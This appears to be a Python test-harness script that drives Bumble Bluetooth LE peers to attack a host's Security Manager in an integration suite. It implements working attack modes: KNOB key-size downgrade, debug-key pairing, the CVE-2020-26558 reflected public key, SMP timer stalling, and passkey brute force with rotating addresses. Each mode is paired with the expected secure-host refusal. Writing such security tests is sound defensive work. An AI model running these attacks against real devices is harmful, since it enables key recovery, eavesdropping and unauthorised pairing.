#!/usr/bin/env python3
"""Bumble peers that attack a host's Security Manager, for the SMP-attack suite over the HCI backend
(Tests/HaraldHCIBackendTests/SMPAttackBumbleIntegrationTests.swift), steered by the test.

--role peripheral: an advertising peripheral that the central under test pairs with. Its mode:
  honest   pairs LE Secure Connections Just Works, nothing odd (the suite's control case).
  knob     KNOB (Antonioli et al., "Key Negotiation Of Bluetooth", 2019/2020, the LE variant):
           its Pairing Response offers a Maximum Encryption Key Size of 7 octets, which an
           attacker could then search offline. A secure host answers Pairing Failed, Encryption
           Key Size (0x06) and never encrypts with the short key.
  debug    pairs with the Core spec's debug key pair (Vol 3 Part H 2.3.5.6.1), whose private key
           is public: anyone who records the pairing can derive the LTK. A secure host refuses the
           key (Pairing Failed) and stores no bond.
  reflect  CVE-2020-26558 with the negated point: answers the central's public key (x, y) with
           (x, p - y), and commits with x as its own. A host that only compares whole points lets
           it through; a secure host refuses as soon as the peer's X equals its own (Pairing
           Failed), before it sends its Pairing Random.
  stall    answers the Pairing Request, then, instead of its public key, sends a Security Request
           (a PDU the central ignores) every --stall-interval seconds, --stall-count times. A host
           whose ignored PDUs restart the SMP timer never ends the pairing; a secure host ends it
           one SMP timeout after the last PDU it expected (Vol 3 Part H 3.4).
--role central: a central that attacks the peripheral under test, on request:
  {"op": "pair", "address", "max_key_size"}   one Just Works pairing offering that key size.
  {"op": "brute", "address", "seconds", "rotate", "guess"}
           passkey brute force: as a keyboard, types the wrong passkey `guess` in new pairings, one
           connection each (with `rotate`, from a new random address each time), for `seconds`.
           A secure responder, after the first failure, answers Pairing Failed, Repeated Attempts
           (0x09) for a growing wait, so few guesses are ever evaluated.

Control channel: TCP on 127.0.0.1, one JSON object a line, answered by one line {"ok": true, ...}
or {"ok": false, "error": ...}. Peripheral: {"op": "mode", "mode"[, "interval", "count"]} (the last two
for stall), {"op": "reset"}, {"op": "status"}
-> {"mode", "started", "paired", "failures": [reason...], "received": [SMP codes from the central],
"sent_public_key", "stalls", "encrypted": [key sizes], "connected", "disconnections": [reasons]}.
Prints "CONTROL <port>", "READY <address>", and one line per event (PAIRING_FAILED reason=0x..,
ENCRYPTED keysize=.., STALL n, PASSKEY_ATTEMPT n result=.. t=.., DISCONNECTED reason=0x..).
"""
import argparse
import asyncio
import logging
import time

from bumble import hci, smp
from bumble.core import ProtocolError
from bumble.pairing import PairingConfig, PairingDelegate

import attacker as kit  # same directory: what the steered Bumble peers share
from attacker import say

SMP_CID = 0x0006
P256_P = 2**256 - 2**224 + 2**192 + 2**96 - 1  # the P-256 field prime
MODES = ("honest", "knob", "debug", "reflect", "stall")


class Peripheral:
    def __init__(self, device, stall_interval, stall_count):
        self.device, self.stall_interval, self.stall_count = device, stall_interval, stall_count
        self.own = device.random_address
        self.mode = "honest"
        self.clear()
        attacker = self

        class Session(smp.Session):
            """Bumble's SMP session, with the reflect and stall modes' public key step."""

            def send_public_key_command(self):
                if attacker.mode == "reflect" and self.peer_public_key_x:
                    x, y = self.peer_public_key_x, self.peer_public_key_y
                    negated = (P256_P - int.from_bytes(y, "little")).to_bytes(32, "little")
                    self.send_command(smp.SMP_Pairing_Public_Key_Command(public_key_x=x, public_key_y=negated))
                else:
                    self.send_command(smp.SMP_Pairing_Public_Key_Command(
                        public_key_x=self.ecc_key.x[::-1], public_key_y=self.ecc_key.y[::-1]))
                attacker.sent_public_key += 1

            @property
            def pkx(self):
                if attacker.mode == "reflect":  # commits to the reflected X as its own
                    return (self.peer_public_key_x, self.peer_public_key_x)
                return super().pkx

            def on_smp_pairing_public_key_command(self, command):
                if attacker.mode == "stall":
                    self.connection.cancel_on_disconnection(attacker.stall(self))
                    return
                super().on_smp_pairing_public_key_command(command)

        device.smp_session_proxy = Session
        device.pairing_config_factory = self.pairing_config
        device.on("connection", self.on_connection)
        device.on("pairing_start", lambda _: self.bump("started"))
        device.host.on("l2cap_pdu", self.on_l2cap_pdu)

    def clear(self):
        self.started = self.paired = self.sent_public_key = self.stalls = 0
        self.peer_max = 16
        self.failures, self.received, self.encrypted, self.disconnections = [], [], [], []

    def bump(self, key):
        setattr(self, key, getattr(self, key) + 1)

    def pairing_config(self, connection):
        self.device.smp_manager.debug_mode = self.mode == "debug"
        size = 7 if self.mode == "knob" else 16
        # Its identity is the static address it connects from, so a host that checks identities
        # has nothing to refuse but the attack itself.
        self.device.static_address = self.own
        return PairingConfig(sc=True, mitm=False, bonding=True,
                             delegate=kit.AcceptingDelegate(PairingDelegate.NO_OUTPUT_NO_INPUT, key_size=size),
                             identity_address_type=PairingConfig.AddressType.RANDOM)

    async def stall(self, session):
        for n in range(1, self.stall_count + 1):
            await asyncio.sleep(self.stall_interval)
            session.send_command(smp.SMP_Security_Request_Command(auth_req=smp.AuthReq.from_booleans(bonding=True, sc=True)))
            self.stalls = n
            say(f"STALL {n}")

    def on_connection(self, connection):
        say(f"CONNECTED {connection.peer_address}")
        connection.on("pairing", lambda keys: (self.bump("paired"), say("PAIRED")))
        connection.on("connection_encryption_change", lambda: self.on_encryption(connection))
        connection.on("disconnection", lambda reason: self.on_disconnection(int(reason)))

    def on_failure(self, reason):
        self.failures.append(reason)
        say(f"PAIRING_FAILED reason=0x{reason:02X}")

    def on_encryption(self, connection):
        if connection.is_encrypted:  # the key size both sides' features settled on
            size = min(self.peer_max, 7 if self.mode == "knob" else 16)
            self.encrypted.append(size)
            say(f"ENCRYPTED keysize={size}")

    def on_disconnection(self, reason):
        self.disconnections.append(reason)
        say(f"DISCONNECTED reason=0x{reason:02X}")

    def on_l2cap_pdu(self, handle, cid, pdu):
        if cid == SMP_CID and pdu:
            self.received.append(pdu[0])
            if pdu[0] == 0x01 and len(pdu) >= 5:  # Pairing Request: its Maximum Encryption Key Size
                self.peer_max = pdu[4]
            if pdu[0] == 0x05:  # Pairing Failed from the central
                self.on_failure(pdu[1] if len(pdu) > 1 else -1)

    async def control(self, request):
        op = request.get("op")
        if op == "mode":
            if request.get("mode") not in MODES:
                raise ValueError(f"unknown mode {request.get('mode')!r}")
            self.mode = request["mode"]
            self.stall_interval = float(request.get("interval", self.stall_interval))
            self.stall_count = int(request.get("count", self.stall_count))
            return {}
        if op == "reset":
            self.clear()
            return {}
        if op == "status":
            return {"mode": self.mode, "started": self.started, "paired": self.paired, "failures": self.failures,
                    "received": self.received, "sent_public_key": self.sent_public_key, "stalls": self.stalls,
                    "encrypted": self.encrypted, "connected": len(self.device.connections),
                    "disconnections": self.disconnections}
        raise ValueError(f"unknown op {op!r}")


class Central:
    def __init__(self, device):
        self.device = device
        self.received, self.peer_max = [], 16
        device.host.on("l2cap_pdu", self.on_l2cap_pdu)

    def on_l2cap_pdu(self, handle, cid, pdu):
        if cid == SMP_CID and pdu:
            self.received.append(pdu[0])
            if pdu[0] == 0x02 and len(pdu) >= 5:  # Pairing Response: its Maximum Encryption Key Size
                self.peer_max = pdu[4]

    async def attempt(self, address, delegate):
        """One connection and one pairing: (Pairing Failed reason or None, SMP codes received, key size)."""
        self.received, self.peer_max = [], 16
        self.device.pairing_config_factory = lambda _: PairingConfig(sc=True, mitm=True, bonding=True, delegate=delegate)
        connection = await self.device.connect(hci.Address(address), own_address_type=hci.OwnAddressType.RANDOM, timeout=10)
        reason, size = None, 0
        try:
            await asyncio.wait_for(connection.pair(), 20)
            size = min(self.peer_max, delegate.maximum_encryption_key_size) if connection.is_encrypted else 0
        except ProtocolError as error:
            reason = int(error.error_code)
        except (asyncio.CancelledError, Exception) as error:  # no answer, or the link went away
            reason = -1
            say(f"ATTEMPT ended without Pairing Failed: {type(error).__name__}: {error}")
        received = list(self.received)
        if connection.handle in self.device.connections:
            try:
                await connection.disconnect()
            except Exception:
                pass
        return reason, received, size

    async def new_address(self):
        address = hci.Address.generate_static_address()
        self.device.random_address = address
        await self.device.send_command(hci.HCI_LE_Set_Random_Address_Command(random_address=address))

    async def control(self, request):
        op = request.get("op")
        if op == "pair":
            size = int(request.get("max_key_size", 16))
            reason, received, key_size = await self.attempt(request["address"], kit.AcceptingDelegate(PairingDelegate.NO_OUTPUT_NO_INPUT, key_size=size))
            if reason is None:
                say(f"ENCRYPTED keysize={key_size}")
            else:
                say(f"PAIRING_FAILED reason=0x{reason:02X}" if reason >= 0 else "PAIRING_ABORTED (no Pairing Failed: link lost or no answer)")
            return {"reason": reason, "received": received, "key_size": key_size}
        if op == "brute":
            seconds, rotate, guess = float(request["seconds"]), bool(request.get("rotate")), int(request.get("guess", 0))
            start, attempts = time.monotonic(), []
            while time.monotonic() - start < seconds:
                if rotate:
                    await self.new_address()
                reason, received, _ = await self.attempt(request["address"], kit.AcceptingDelegate(PairingDelegate.KEYBOARD_INPUT_ONLY, passkey=guess))
                evaluated = 0x02 in received  # the responder answered the Pairing Request
                result = "evaluated" if evaluated else ("refused" if reason == 0x09 else "other")
                t = round(time.monotonic() - start, 2)
                attempts.append({"t": t, "result": result, "reason": reason})
                say(f"PASSKEY_ATTEMPT {len(attempts)} result={result} reason={reason} t={t}")
                await asyncio.sleep(0.05)
            return {"attempts": attempts, "evaluated": sum(a["result"] == "evaluated" for a in attempts),
                    "refused": sum(a["result"] == "refused" for a in attempts)}
        raise ValueError(f"unknown op {op!r}")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--role", choices=("peripheral", "central"), required=True)
    parser.add_argument("--transport", required=True, help="e.g. tcp-client:127.0.0.1:9001")
    parser.add_argument("--address", required=True, help="its static random address")
    parser.add_argument("--name", default="Harald-SMPATK")
    parser.add_argument("--stall-interval", type=float, default=2.0, help="stall mode: seconds between ignored PDUs")
    parser.add_argument("--stall-count", type=int, default=15, help="stall mode: how many ignored PDUs it sends")
    parser.add_argument("--control-port", type=int, default=0)
    args = parser.parse_args()
    if args.role == "peripheral":
        make = lambda device: Peripheral(device, args.stall_interval, args.stall_count)  # noqa: E731
        advertising = kit.advertising_data(args.name)
    else:
        make, advertising = Central, None
    kit.main(kit.run_peer(args.transport, args.address, args.name, make, control_port=args.control_port,
                          advertising=advertising, log_level=logging.ERROR))


if __name__ == "__main__":
    main()
